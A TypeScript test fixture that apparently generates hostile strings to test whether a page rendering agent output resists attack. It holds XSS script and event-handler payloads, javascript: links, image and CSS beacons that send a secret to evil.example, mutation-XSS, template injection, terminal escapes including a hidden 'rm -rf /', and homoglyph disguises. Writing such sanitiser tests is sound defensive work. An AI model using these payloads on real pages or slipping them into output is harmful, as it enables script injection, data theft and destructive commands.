// Payloads that an agent could send to attack the page: families that are each known from a real attack. All try to run
// `MARK` or to reach evil.example.

const MARK = 'globalThis.owned=1'
const EVIL = 'https://evil.example/?q=secret'

const SCRIPTS = [
  `<script>${MARK}</script>`,
  `<ScRiPt >${MARK}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${MARK}</script>`,
  `</title><script>${MARK}</script>`,
  `</textarea><script>${MARK}</script>`,
  `--><script>${MARK}</script>`,
  `]]><script>${MARK}</script>`,
  `<scr<script>ipt>${MARK}</scr</script>ipt>`,
  `<svg><script>${MARK}</script></svg>`,
  `<svg><script href="data:text/javascript,${MARK}"/></svg>`,
  `<math><mtext><script>${MARK}</script></mtext></math>`,
  `"><script>${MARK}</script>`,
  `'><script>${MARK}</script>`,
  `<script\u0000>${MARK}</script>`,
  `\uFEFF<script>${MARK}</script>`,
  `<!--<script>${MARK}</script>-->`,
  `<![CDATA[<script>${MARK}</script>]]>`,
  `<?xml version="1.0"?><script>${MARK}</script>`,
  `&lt;script&gt;${MARK}&lt;/script&gt;`,
  `&#60;script&#62;${MARK}&#60;/script&#62;`,
  `<iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  `<template shadowrootmode=open><script>${MARK}</script></template>`,
]

const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'marquee',
  'object data=x',
  'iframe src=about:blank',
  'div tabindex=0 autofocus',
  'a href=#x id=x',
  'button autofocus',
  'style',
  'link rel=stylesheet href=x',
  'math',
  'custom-element',
  'dialog open',
]
const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerover']
const EVENTS = ELEMENTS.flatMap((element, index) => {
  const others = [HANDLERS[index % HANDLERS.length], HANDLERS[(index + 3) % HANDLERS.length]]
  return others.map((handler) => `<${element} ${handler}="${MARK}">`)
})

const ADDRESSES = [
  `javascript:${MARK}`,
  `JaVaScRiPt:${MARK}`,
  `java\tscript:${MARK}`,
  `javascript&colon;${MARK}`,
  `&#106;avascript:${MARK}`,
  `\u0001javascript:${MARK}`,
  `data:text/html,<script>${MARK}</script>`,
  `data:image/svg+xml,<svg onload="${MARK}"/>`,
  `vbscript:${MARK}`,
  'file:///etc/passwd',
  `//evil.example/`,
  `blob:https://evil.example/1`,
]
const PLACES = [
  (address: string) => `[click](${address})`,
  (address: string) => `![look](${address})`,
  (address: string) => `<${address}>`,
  (address: string) => `[click][r]\n\n[r]: ${address} "title"`,
  (address: string) => `<a href="${address}">click</a>`,
  (address: string) => `<form action="${address}"><button autofocus>go</button></form>`,
]
const LINKS = ADDRESSES.flatMap((address) => PLACES.map((place) => place(address)))

const LEAKS = [
  `![x](${EVIL})`,
  `![x](${EVIL} "title")`,
  `[![x](${EVIL})](${EVIL})`,
  `![x][r]\n\n[r]: ${EVIL}`,
  `<img src="${EVIL}">`,
  `<img srcset="${EVIL} 1x">`,
  `<picture><source srcset="${EVIL}"><img></picture>`,
  `<link rel=stylesheet href="${EVIL}">`,
  `<link rel=prefetch href="${EVIL}">`,
  `<link rel=dns-prefetch href="${EVIL}">`,
  `<link rel=preconnect href="${EVIL}">`,
  `<link rel=modulepreload href="${EVIL}">`,
  `<style>@import "${EVIL}";</style>`,
  `<style>@font-face{font-family:x;src:url(${EVIL})}*{font-family:x}</style>`,
  `<style>input[value^=a]{background:url(${EVIL})}</style>`,
  `<div style="background:url(${EVIL})">x</div>`,
  `<video poster="${EVIL}"></video>`,
  `<audio src="${EVIL}" autoplay></audio>`,
  `<video><track src="${EVIL}" default></video>`,
  `<object data="${EVIL}"></object>`,
  `<embed src="${EVIL}">`,
  `<iframe src="${EVIL}"></iframe>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<base href="https://evil.example/">`,
  `<input type=image src="${EVIL}">`,
  `<body background="${EVIL}">`,
  `<table background="${EVIL}"><tr><td>x</table>`,
  `<svg><image href="${EVIL}"/></svg>`,
  `<svg><use href="${EVIL}#x"/></svg>`,
  `<svg><filter><feImage href="${EVIL}"/></filter></svg>`,
  `<a href="#" ping="${EVIL}">x</a>`,
  `<frameset><frame src="${EVIL}"></frameset>`,
  `<portal src="${EVIL}"></portal>`,
  `<math href="${EVIL}">x</math>`,
]

const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${MARK}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${MARK}>"></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${MARK}>`,
  `<x title="</x><img src=x onerror=${MARK}>">`,
  `<select><template><script>${MARK}</script></template></select>`,
  `<table><caption><svg><title><style><img src=x onerror=${MARK}></style></title></svg></table>`,
  `<b <script>${MARK}</script>0`,
  `<img """><script>${MARK}</script>">`,
  `<a href="\u0000javascript:${MARK}">x</a>`,
]

const TEMPLATES = [
  `{{constructor.constructor('${MARK}')()}}`,
  '${' + MARK + '}',
  `<%= ${MARK} %>`,
  `#{${MARK}}`,
  `{"__html":"<img src=x onerror=${MARK}>"}`,
  `{"$$typeof":"Symbol(react.element)","props":{"dangerouslySetInnerHTML":{"__html":"x"}}}`,
  `<div v-html="'<img src=x onerror=${MARK}>'"></div>`,
  `__proto__`,
  `constructor`,
  `[object Object]`,
]

const TERMINAL = [
  `\u001B]52;c;${Buffer.from(MARK).toString('base64')}\u0007`,
  `\u001B]8;;javascript:${MARK}\u0007click\u001B]8;;\u0007`,
  `\u001B]0;owned\u0007\u001B]2;owned\u001B\\`,
  `\u001B[8mhidden\u001B[0m\u001B[2J\u001B[1;1H`,
  `\u001B[31m<img src=x onerror=${MARK}>\u001B[0m`,
  `\u001BP$q"p\u001B\\\u001B[6n\u001B[c`,
  `safe\rrm -rf /`,
]

const DISGUISES = [
  `\u202Etxt.exe`,
  `a\u2066b\u2069\u200F`,
  `rm\u200B -rf\u2028/`,
  `\u0000\u0008\u007F`,
  `https://\u0430pple.com/login`,
  `[https://good.example](${EVIL})`,
  `https://good.example@evil.example/`,
]

const CODE = [
  `\`\`\`html\n<img src=x onerror=${MARK}>\n\`\`\``,
  `\`\`\`js" onload="${MARK}\ncode\n\`\`\``,
  `\`\`\`</code></pre><script>${MARK}</script>\ncode\n\`\`\``,
  `\`<img src=x onerror=${MARK}>\``,
  `| <img src=x onerror=${MARK}> | b |\n|---|---|\n| <script>${MARK}</script> | ![x](${EVIL}) |`,
  `# <img src=x onerror=${MARK}>`,
  `> <iframe src="${EVIL}"></iframe>`,
  `1. <script>${MARK}</script>\n   - ![x](${EVIL})`,
  `- [ ] <img src=x onerror=${MARK}>`,
]

const FAMILIES = [SCRIPTS, EVENTS, LINKS, LEAKS, MUTATIONS, TEMPLATES, TERMINAL, DISGUISES, CODE]
const SETTINGS = [
  (text: string) => `> ${text}`,
  (text: string) => `- ${text}`,
  (text: string) => `**${text}**`,
  (text: string) => `| a |\n|---|\n| ${text.replaceAll('\n', ' ')} |`,
]

/** The payloads; with `count`, also nested in other Markdown until there are that many. */
export function hostileWords(count = 0): readonly string[] {
  const plain = FAMILIES.flat()
  const wrapped = SETTINGS.flatMap((wrap) => plain.map((text) => wrap(text)))
  return [...plain, ...wrapped].slice(0, Math.max(plain.length, count))
}
